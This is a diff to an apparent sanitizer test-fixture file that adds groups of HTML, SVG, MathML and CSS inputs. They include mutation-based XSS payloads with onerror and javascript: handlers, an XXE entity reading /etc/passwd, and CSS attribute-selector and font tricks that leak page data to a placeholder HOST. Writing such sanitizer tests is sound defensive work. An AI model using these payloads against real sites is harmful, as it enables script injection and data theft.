@@ -62,7 +62,8 @@ ADDRESSES = {
 }
 LOADS = {
     "srcset": '<img srcset="http://HOST/a 1x, //HOST/b 2x" sizes="99vw">',
-    "a preload": '<link rel="preload" as="image" href="http://HOST/"><link rel="modulepreload" href="http://HOST/m.js">',
+    "a preload": '<link rel="preload" as="image" href="http://HOST/"><link rel="modulepreload" href="http://HOST'
+    '/m.js">',
     "a prerender": '<link rel="prerender" href="http://HOST/"><link rel="prefetch" href="http://HOST/">',
     "a manifest": '<link rel="manifest" href="http://HOST/"><link rel="icon" href="http://HOST/i">',
     "an import in a style": "<style>@import 'http://HOST/a.css'; @import url(//HOST/b.css) screen;</style>",
@@ -75,17 +76,21 @@ LOADS = {
     "a poster": '<video poster="http://HOST/p"></video><audio src="http://HOST/a" autoplay></audio>',
     "a track": '<video><track default src="http://HOST/t"><source src="http://HOST/s"></video>',
     "an input": '<input type="image" src="http://HOST/i"><body background="http://HOST/b">',
-    "an object": '<object data="http://HOST/o"><param name="movie" value="http://HOST/m"></object><embed src="http://HOST/e">',
+    "an object": '<object data="http://HOST/o"><param name="movie" value="http://HOST/m"></object><embed src="http:/'
+    '/HOST/e">',
     "a portal": '<portal src="http://HOST/"></portal><fencedframe></fencedframe>',
-    "an image in SVG": '<svg><image href="http://HOST/i"/><use href="http://HOST/u#u"/><feImage href="http://HOST/f"/></svg>',
-    "a form that is sent by a button": '<form action="http://HOST/"><button formaction="http://HOST/b">x</button></form>',
+    "an image in SVG": '<svg><image href="http://HOST/i"/><use href="http://HOST/u#u"/><feImage href="http://HOST/f"'
+    "/></svg>",
+    "a form that is sent by a button": '<form action="http://HOST/"><button formaction="http://HOST/b">x</button><'
+    "/form>",
     "a quotation's source": '<blockquote cite="http://HOST/">x</blockquote><q cite="http://HOST/">x</q>',
     "an address without a scheme": "![x](//HOST/i) ![y](\\\\HOST\\i)",
 }
 FRAMES = {
     "a document within": f'<iframe srcdoc="<script>parent.{_RUN}</script><img src=http://HOST/i>"></iframe>',
     "a frame of a frame": '<frameset><frame src="http://HOST/"></frameset>',
-    "a shadow root": f'<div><template shadowrootmode="open"><script>{_RUN}</script><img src="http://HOST/i"></template></div>',
+    "a shadow root": f'<div><template shadowrootmode="open"><script>{_RUN}</script><img src="http://HOST/i"><'
+    "/template></div>",
     "a template": f'<template><img src="http://HOST/i" onerror="{_RUN}"></template>',
     "another base": '<base href="http://HOST/"><img src="relative.png">',
     "a refresh": '<meta http-equiv="refresh" content="0;url=http://HOST/">',
@@ -95,6 +100,95 @@ FRAMES = {
     "names of the page": '<form name="frontispiece"><input name="say"></form><a id="frontispiece-content">x</a>',
     "a fence's language": f'```"><img src=x onerror={_RUN}>\nx\n```',
     "a heading's id": f'# x {{#a"><img src=x onerror={_RUN}>}}\n\n## <img src=x onerror="{_RUN}">',
+}
+MUTATIONS = {
+    "a style in MathML in SVG": f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={_RUN}>",
+    "a comment in a style in SVG": f"<svg><style><!--</style><img src=x onerror={_RUN}>--></svg>",
+    "a title that ends in an attribute": f'<svg></p><style><a id="</style><img src=x onerror={_RUN}>">',
+    "an annotation in HTML": f'<math><annotation-xml encoding="text/html"><img src=x onerror={_RUN}></annotation-xml>'
+    "</math>",
+    "a form in a form": f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img"
+    f" onerror={_RUN} src>'>",
+    "a select that throws out": f"<select><template><img src=x onerror={_RUN}></template><svg><script>{_RUN}</script>"
+    "</svg></select>",
+    "text of an old kind": f"<xmp><p title='</xmp><img src=x onerror={_RUN}>'></p></xmp><listing>&lt;img src=x"
+    f" onerror={_RUN}></listing>",
+    "what older browsers skip": f"<noembed><p title='</noembed><img src=x onerror={_RUN}>'></p></noembed><noframes>"
+    f"<script>{_RUN}</script></noframes>",
+    "a CDATA section": f"<svg><![CDATA[><img src=x onerror={_RUN}>]]></svg><![CDATA[<script>{_RUN}</script>]]>",
+    "an instruction": f"<?xml-stylesheet href='javascript:{_RUN}'?><?php echo 1 ?><!DOCTYPE x [<!ENTITY e SYSTEM "
+    "'file:///etc/passwd'>]>&e;",
+    "deep nesting": "<b>" * 600 + f"<img src=x onerror={_RUN}>" + "</b>" * 600,
+    "a name with a null": f"<scr\0ipt>{_RUN}</scr\0ipt><img src=x onerr\0or={_RUN} o\0nload={_RUN}>",
+    "attributes twice": f"<a href='#x' href='javascript:{_RUN}' HREF='javascript:{_RUN}'>x</a>",
+    "a tag that does not end": f"<img src=x title='a\n\nb' onerror={_RUN} //",
+    "all that is left open": "<table><tr><td><select><textarea><title><svg><math><style>",
+    "text that takes all": "<plaintext>",
+}
+STYLES = {
+    "text by its attributes": "<style>a[href*='a']{background:image-set('http://HOST/1'"
+    " 1x)}input[value^=s]{list-style:url(//HOST/2)}</style>",
+    "a mixed picture": '<p style="background:-webkit-cross-fade(url(http://HOST/a), url(//HOST/b), 50%)">x</p>',
+    "an old picture set": '<p style="background:-webkit-image-set(url(http://HOST/a) 1x)">x</p>',
+    "an address in a variable": '<style>p{--u:url(http://HOST/v);background:var(--u)}</style><p style="--u:url(/'
+    '/HOST/w)">x</p>',
+    "an address by a property": "<style>@property --p{syntax:'<url>';inherits:false;initial-value:url(http://HOST"
+    "/p)}p{background:var(--p)}</style>",
+    "an address with escapes": "<style>p{background:\\75\\72\\6c(http://HOST/e)}</style><p style="
+    "'background:u\\rl(http://HOST/f)'>x</p>",
+    "borders and masks": '<p style="border:9px solid;border-image:url(http://HOST/b) 9;-webkit-mask-image:url(http:/'
+    '/HOST/m);-webkit-box-reflect:below 0 url(http://HOST/r)">x</p>',
+    "letters that load by what is there": "<style>@font-face{font-family:l;src:url(http://HOST/A)"
+    ";unicode-range:U+41}p{font-family:l}</style><p>A</p>",
+    "a sheet that ends its scope": "<style>} } @import url(http://HOST/x); body{background:url(http://HOST/y)} {<"
+    "/style>",
+    "a condition and a layer": "<style>@import url(http://HOST/l) layer(a) supports(display:grid)"
+    ";@supports(display:grid){p{background:url(http://HOST/s)}}</style>",
+    "the name space of another": "<style>@namespace url(http://HOST/n);@charset 'x';@document url(http://HOST"
+    "/){p{color:red}}</style>",
+    "a shape and an offset": '<p style="float:left;shape-outside:url(http://HOST/s);offset-path:url(http://HOST/o#p)'
+    '">x</p>',
+    "a counter": "<style>@counter-style c{system:cyclic;symbols:url(http://HOST/c)}ol{list-style:c}</style><ol><li>x"
+    "</li></ol>",
+    "an animation of addresses": "<style>@keyframes k{to{background:url(http://HOST/k)}}p{animation:k 1ms forwards}<"
+    "/style><p>x</p>",
+    "a view that moves": "<style>@view-transition{navigation:auto}:root{view-transition-name:x}::view-transition{back"
+    "ground:url(http://HOST/v)}</style>",
+}
+WAYS_OUT = {
+    "a link that an animation turns": '<svg><a href="#x"><animate attributeName="href" values="#a;http://HOST/'
+    ';javascript:1" dur="1ms" fill="freeze"/><text y="9">x</text></a></svg>',
+    "a refresh in other spellings": '<META HTTP-EQUIV=" refresh " CONTENT="0 ;URL=//HOST/"><meta http-equiv='
+    '"Set-Cookie" content="a=b">',
+    "a permission": '<permission type="geolocation camera"></permission><geolocation autolocate></geolocation>',
+    "a base in SVG": '<svg xml:base="http://HOST/"><image href="b.png"/><use href="b.svg#b"/></svg>',
+    "rules ahead of time": '<link rel="dns-prefetch preconnect prerender compression-dictionary" href="http://HOST/"'
+    '><link rel="expect" href="#never" blocking="render">',
+    "a source of another machine": '<picture><source srcset="//HOST/s" media="all"><img alt="x"></picture><img src='
+    '"data:," srcset="http://HOST/t 2x" sizes="auto" loading="lazy">',
+    "what is told of a click": '<a href="#x" ping="http://HOST/p" attributionsrc="http://HOST/a">x</a><img src='
+    '"data:," attributionsrc="http://HOST/i">',
+    "what is told of a lack": '<iframe csp="default-src; report-uri http://HOST/r"></iframe><div nonce="x" is="x-y">'
+    "</div>",
+    "a film with all that it may name": '<video controls autoplay poster="//HOST/p" src="blob:http://HOST/x"><track'
+    ' src="//HOST/t" default><source src="http://HOST/s"></video>',
+    "an old applet": '<applet code="http://HOST/a"></applet><bgsound src="http://HOST/b"><keygen><isindex action='
+    '"http://HOST/i"><layer src="http://HOST/l"></layer>',
+    "a worker and a door": "<script>new Worker('data:,');navigator.serviceWorker.register('/x.js');new"
+    " RTCPeerConnection({iceServers:[{urls:'stun:HOST'}]})</script>",
+    "a button that commands": '<button commandfor="d" command="show-modal" popovertarget="d" interestfor="d">x<'
+    '/button><dialog id="d" popover>y</dialog>',
+}
+IN_THE_SITE = {
+    "a drawing with a script": "![x](/assets/evil.svg) ![y](/assets/evil.svg#x)",
+    "a part of such a drawing": '<svg><use href="/assets/evil.svg#x"/><image href="/assets/evil.svg"/></svg>',
+    "such a drawing as all that it may be": '<object data="/assets/evil.svg"></object><embed src="/assets/evil.svg">'
+    '<iframe src="/assets/evil.svg"></iframe>',
+    "a filter and a mask from such a drawing": '<p style="filter:url(/assets/evil.svg#f);mask:url(/assets'
+    '/evil.svg#m);background:url(/assets/evil.svg)">x</p>',
+    "a page that is called a picture": "![x](/assets/page.png) [y](/assets/page.html)",
+    "a pipe that is called a picture": "![x](/assets/pipe.png)",
+    "a picture of a billion points": "![x](/assets/vast.png)",
 }
 PATHS = {
     "a step up": "![x](/../outside/secret.png) ![y](../../outside/secret.png)",
@@ -116,5 +210,9 @@ GROUPS = {
     "addresses": ADDRESSES,
     "loads": LOADS,
     "frames": FRAMES,
+    "mutations": MUTATIONS,
+    "styles": STYLES,
+    "ways out": WAYS_OUT,
+    "files of the site": IN_THE_SITE,
     "paths": PATHS,
 }
